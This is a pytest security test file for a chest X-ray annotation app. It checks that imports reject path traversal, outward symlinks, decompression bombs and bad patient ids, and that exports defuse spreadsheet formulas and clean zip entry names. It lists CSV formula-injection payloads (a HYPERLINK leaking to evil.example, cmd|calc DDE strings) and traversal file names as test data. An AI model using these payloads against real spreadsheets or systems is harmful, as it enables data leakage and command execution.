"""Bad input in files: data set folders to import, and what an export writes.

An import reports every bad file on a rejected line with its reason and stores nothing for it:
paths out of the folder (absolute, "..", symbolic links), bombs, files over the size limit,
patient ids that do not fit. An export neutralises spreadsheet formulas in its CSVs and names
its zip entries from a whitelist, whatever the images were called.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command

from annotation import services, storage
from annotation.exporting import FORMULA_STARTS, ExportRow, safe_name, write_zip
from annotation.ingest import ingest_folder
from annotation.models import ImageClass
from annotation.selectors import export_rows
from tests.security import badfiles as bad

pytestmark = pytest.mark.django_db

MEMORY_LIMIT = 200 * bad.MB


def write_listing(root: Path, rows: list[list[str]]) -> None:
    with (root / "labels.csv").open("w", newline="") as fh:
        csv.writer(fh).writerows([["file", "class", "patient", "mask"], *rows])


@pytest.fixture
def folders(tmp_path):
    """A data set folder, and a folder beside it holding a valid CXR that must never be read."""
    root, outside = tmp_path / "dataset", tmp_path / "elsewhere"
    root.mkdir()
    outside.mkdir()
    (outside / "secret.png").write_bytes(bad.cxr_png(seed=40))
    (outside / "secret_mask.png").write_bytes(bad.mask_png())
    (root / "good.png").write_bytes(bad.cxr_png(seed=41))
    return root, outside


def _absolute(root: Path, outside: Path) -> list[str]:
    return [str(outside / "secret.png"), "COVID-19", "P1", ""]


def _climbing(root: Path, outside: Path) -> list[str]:
    return ["../elsewhere/secret.png", "COVID-19", "P1", ""]


def _climbing_deep(root: Path, outside: Path) -> list[str]:
    return ["sub/../../elsewhere/secret.png", "COVID-19", "P1", ""]


def _link_out(root: Path, outside: Path) -> list[str]:
    (root / "linked.png").symlink_to(outside / "secret.png")
    return ["linked.png", "COVID-19", "P1", ""]


def _folder_link_out(root: Path, outside: Path) -> list[str]:
    (root / "sub").symlink_to(outside, target_is_directory=True)
    return ["sub/secret.png", "COVID-19", "P1", ""]


def _mask_link_out(root: Path, outside: Path) -> list[str]:
    (root / "image.png").write_bytes(bad.cxr_png(seed=42))
    (root / "image_mask.png").symlink_to(outside / "secret_mask.png")
    return ["image.png", "COVID-19", "P1", "image_mask.png"]


def _mask_absolute(root: Path, outside: Path) -> list[str]:
    (root / "image.png").write_bytes(bad.cxr_png(seed=43))
    return ["image.png", "COVID-19", "P1", str(outside / "secret_mask.png")]


def _bomb(root: Path, outside: Path) -> list[str]:
    (root / "bomb.png").write_bytes(bad.png_of_zeros(9000, 9000, 16))
    return ["bomb.png", "COVID-19", "P1", ""]


def _patient_overlong(root: Path, outside: Path) -> list[str]:
    (root / "image.png").write_bytes(bad.cxr_png(seed=44))
    return ["image.png", "COVID-19", "P" * 150, ""]


def _patient_nul(root: Path, outside: Path) -> list[str]:
    (root / "image.png").write_bytes(bad.cxr_png(seed=45))
    return ["image.png", "COVID-19", "P\x001", ""]


def _over_the_size_limit(root: Path, outside: Path) -> list[str]:
    (root / "large.png").write_bytes(bad.cxr_png(seed=46) + bytes(500_000))
    return ["large.png", "COVID-19", "P1", ""]


def _mask_not_binary(root: Path, outside: Path) -> list[str]:
    (root / "image.png").write_bytes(bad.cxr_png(seed=47))
    (root / "image_mask.png").write_bytes(bad.mask_png(levels=True))
    return ["image.png", "COVID-19", "P1", "image_mask.png"]


INGESTS = {
    "csv-absolute-path": (_absolute, "outside the data set folder"),
    "csv-dotdot-path": (_climbing, "outside the data set folder"),
    "csv-dotdot-through-a-subfolder": (_climbing_deep, "outside the data set folder"),
    "symlink-pointing-out": (_link_out, "a link pointing outside"),
    "symlinked-folder-pointing-out": (_folder_link_out, "outside the data set folder"),
    "mask-symlink-pointing-out": (_mask_link_out, "a link pointing outside"),
    "mask-absolute-path": (_mask_absolute, "outside the data set folder"),
    "png-bomb-16bit-9000x9000": (_bomb, "larger than the limit"),
    "patient-id-150-chars": (_patient_overlong, "at most 100"),
    "patient-id-nul": (_patient_nul, "control character"),
    "file-over-the-size-limit": (_over_the_size_limit, "files are limited to"),
    "mask-not-binary": (_mask_not_binary, "not binary"),
}


@pytest.mark.parametrize(("make", "says"), INGESTS.values(), ids=INGESTS.keys())
def test_ingest_rejects_with_a_line_and_stores_nothing(folders, settings, make, says):
    root, outside = folders
    settings.MASKLOOP_MAX_UPLOAD_BYTES = 400_000  # a bomb is ~160 KB
    write_listing(root, [make(root, outside)])
    before = bad.stored()

    with bad.PeakMemory() as memory:
        report = ingest_folder(root)

    assert report.imported == [] and report.duplicates == []
    assert len(report.rejected) == 1, report.summary()
    assert says.lower() in report.rejected[0][1].lower(), report.summary()
    assert "rejected: 1" in report.summary()
    assert bad.stored() == before, "a row or a media file was added"
    assert memory.peak < MEMORY_LIMIT, f"peak {memory.peak / bad.MB:.0f} MB"


def test_the_ingest_command_prints_the_rejected_lines(folders):
    root, outside = folders
    write_listing(root, [_climbing(root, outside), ["good.png", "Normal", "P2", ""]])

    out = io.StringIO()
    call_command("ingest", str(root), stdout=out)

    assert "imported: 1" in out.getvalue()
    assert re.search(r"\.\./elsewhere/secret\.png: .*outside the data set folder", out.getvalue())


def test_links_inside_the_folder_are_followed(folders):
    root, _ = folders
    (root / "alias.png").symlink_to(root / "good.png")
    write_listing(root, [["alias.png", "Normal", "P2", ""]])

    report = ingest_folder(root)

    assert report.imported == ["alias.png"]


# ---------------------------------------------------------------- exports

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "P7\r=1+2",  # a carriage return inside: read as a new row, it would start with "="
]


def row(image_id: int, path: Path, **fields) -> ExportRow:
    base = {
        "image_id": image_id,
        "image_name": f"{image_id:06d}_cxr",
        "image_path": str(path),
        "image_ext": "png",
        "mask_path": str(path),
        "image_class": "covid19",
        "patient_id": "P",
        "source": "s",
        "width": 64,
        "height": 64,
        "sha256": "0" * 64,
        "mask_source": "drawn",
        "round": None,
        "stage": "",
        "decision_id": None,
        "reviewer": "",
        "model": "",
        "agreement": None,
        "fold": 0,
    }
    return ExportRow(**{**base, **fields})


def cells(zf: zipfile.ZipFile, sheet: str) -> list[str]:
    return [c for r in csv.reader(io.StringIO(zf.read(sheet).decode(), newline="")) for c in r]


def test_export_csvs_neutralise_formulas(tmp_path):
    image = tmp_path / "image.png"
    image.write_bytes(bad.cxr_png())
    rows = [
        row(i + 1, image, patient_id=f, source=f, reviewer=f, model=f)
        for i, f in enumerate(FORMULAS)
    ]
    out = io.BytesIO()
    write_zip(rows, out)

    with zipfile.ZipFile(out) as zf:
        for sheet in ("metadata.csv", "folds.csv"):
            written = cells(zf, sheet)
            assert not [c for c in written if c.startswith(FORMULA_STARTS)], sheet
            lines = list(csv.reader(io.StringIO(zf.read(sheet).decode(), newline="")))
            assert len(lines) == 1 + len(rows), sheet  # no cell broke out into a row
            for formula in FORMULAS[:-1]:
                inert = ("'" + formula).replace("\r", "\n")  # kept, made inert
                assert inert in written, (sheet, formula)


def test_an_imported_formula_reaches_the_export_inert():
    formula = '=HYPERLINK("http://evil.example","x")'
    services.image_create(
        data=bad.cxr_png(seed=60),
        name="+cmd|' calc'!A0.png",
        source="@SUM(1+1)",
        image_class=ImageClass.NORMAL,  # a control: accepted at once, so exported
        patient_id=formula,
    )
    out = io.BytesIO()
    write_zip(export_rows({"accepted_only": True}), out, opener=storage.open_file)

    with zipfile.ZipFile(out) as zf:
        meta = cells(zf, "metadata.csv")
        assert "'" + formula in meta and "'@SUM(1+1)" in meta
        assert "'" + formula in cells(zf, "folds.csv")


SLIPPERY_NAMES = [
    "..\\..\\evil",
    "../../etc/cron.d/evil",
    "/absolute/evil",
    "C:\\Windows\\evil",
    "evil\x00.png",
    "....//....//evil",
    ".hidden",
    "..",
    "",
    "évil ñame",
]


SLIPPERY_IDS = [
    "backslash-dotdot",
    "slash-dotdot",
    "absolute",
    "windows-drive",
    "nul",
    "dots-and-slashes",
    "hidden",
    "dotdot-alone",
    "empty",
    "accents",
]


@pytest.mark.parametrize("name", SLIPPERY_NAMES, ids=SLIPPERY_IDS)
def test_a_zip_name_is_whitelisted(name):
    safe = safe_name(name)
    assert re.fullmatch(r"[\w.-]+", safe) and ".." not in safe and not safe.startswith(".")


def test_export_zip_entry_names_come_from_a_whitelist(tmp_path):
    image = tmp_path / "image.png"
    image.write_bytes(bad.cxr_png())
    named = [(n, "png") for n in SLIPPERY_NAMES] + [("ok", "png/../../x"), ("ok", "..\\x")]
    rows = [
        row(i + 1, image, image_name=f"{i + 1:06d}_{name}", image_ext=ext)
        for i, (name, ext) in enumerate(named)
    ]
    out = io.BytesIO()
    write_zip(rows, out)

    with zipfile.ZipFile(out) as zf:
        names = zf.namelist()
    entries = [n for n in names if n not in ("metadata.csv", "folds.csv", "manifest.json")]
    assert len(entries) == 2 * len(rows) and len(set(names)) == len(names)
    for name in entries:
        assert re.fullmatch(r"(images|masks)/[\w.-]+\.[a-z0-9]+", name), name
        assert ".." not in name and "\\" not in name and not name.startswith("/"), name
